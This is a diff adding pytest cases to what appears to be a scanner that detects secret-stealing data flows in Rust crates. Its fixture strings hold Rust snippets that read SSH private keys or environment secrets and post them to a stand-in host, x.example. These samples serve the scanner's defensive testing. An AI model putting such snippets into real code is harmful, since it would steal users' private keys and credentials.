@@ -5,10 +5,13 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from cratewatch.scan.crate import scan_crate
 from cratewatch.scan.dataflow import MAX_BOUNDARIES, MAX_FUNCTIONS, DataFlow, opaque, unit_flows
 from cratewatch.scan.dataflow.facts import fixed_address
+from cratewatch.scan.dataflow.labels import grown
 from cratewatch.scan.extract import CrateArchive
 
 HOME = 'let home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());\n'
@@ -82,6 +85,37 @@ def test_the_whole_environment_and_secrets_gathered_by_name() -> None:
         "  if let Ok(v) = std::env::var(k) { client().body(v); } }\n"
         '  let key = std::env::var("OPENAI_API_KEY").unwrap(); client().bearer_auth(key); }'
     )
+
+
+def test_a_secret_named_after_the_crate_is_its_own_setting() -> None:
+    """A helper that reads variables by name, given the crate's own token's name, sends
+    that token where the crate talks to: no secrets gathered; given another program's
+    secret's name, it gathers it."""
+    helper = (
+        "fn env(name: &str) -> String {{ std::env::var(name).unwrap_or_default() }}\n"
+        'fn f() {{ let t = env("{name}"); client().bearer_auth(t); }}'
+    )
+    assert not flows(helper.format(name="ZED_WEBEX_TOKEN"), crate="zed-webex")
+    assert sources(helper.format(name="ZED_WEBEX_TOKEN"), crate="zed-report") == [("environment",)]
+    assert sources(helper.format(name="AWS_SECRET_ACCESS_KEY"), crate="zed-webex") == [
+        ("environment",)
+    ]
+
+
+def test_a_file_named_as_private_keys_are_wherever_its_folder_comes_from() -> None:
+    keys = (
+        "fn keys(dir: &str) -> Vec<PathBuf> {\n"
+        '  let mut out = Vec::new(); for n in ["id_ed25519", "id_rsa"] {\n'
+        "    out.push(PathBuf::from(dir).join(n)); }\n"
+        "  out }\n"
+        "pub fn go(dir: &str) { let mut all = Vec::new();\n"
+        "  for p in keys(dir) { if let Ok(b) = std::fs::read(&p) { all.extend(b); } }\n"
+        '  ureq::post("https://x.example/m").send_bytes(&all); }'
+    )
+    (flow,) = flows(keys)
+    assert flow.sources == {"private-key"} and flow.fixed
+    # a public key is published by design
+    assert not flows(keys.replace('"id_ed25519", "id_rsa"', '"id_ed25519.pub"'))
 
 
 def test_a_tools_own_settings_and_state_stay_home() -> None:
@@ -723,3 +757,25 @@ def test_a_function_named_as_a_value_is_run_where_a_method_calls_it() -> None:
     )
     found = unit_flows({"src/lib.rs": source.encode()}, "sample").revealed
     assert [r.text for r in found] == ["ssh-ed25519 AAAAtest"]
+
+
+_LABELS = st.builds(
+    lambda source, crossed: source + (f"@{crossed}" if crossed else ""),
+    st.sampled_from(["user-file", "environment", "fixed-address"]),
+    st.integers(0, MAX_BOUNDARIES),
+)
+
+
+@given(st.lists(st.sets(_LABELS), max_size=6))
+def test_labels_keep_of_each_source_the_fewest_boundaries_crossed(batches: list[set[str]]) -> None:
+    target: set[str] = set()
+    union: set[str] = set()
+    for batch in batches:
+        before = set(target)
+        assert grown(target, batch) == (target != before)
+        union |= batch
+    fewest: dict[str, int] = {}
+    for label in union:
+        source, _, crossed = label.partition("@")
+        fewest[source] = min(fewest.get(source, MAX_BOUNDARIES), int(crossed or 0))
+    assert target == {s + (f"@{n}" if n else "") for s, n in fewest.items()}
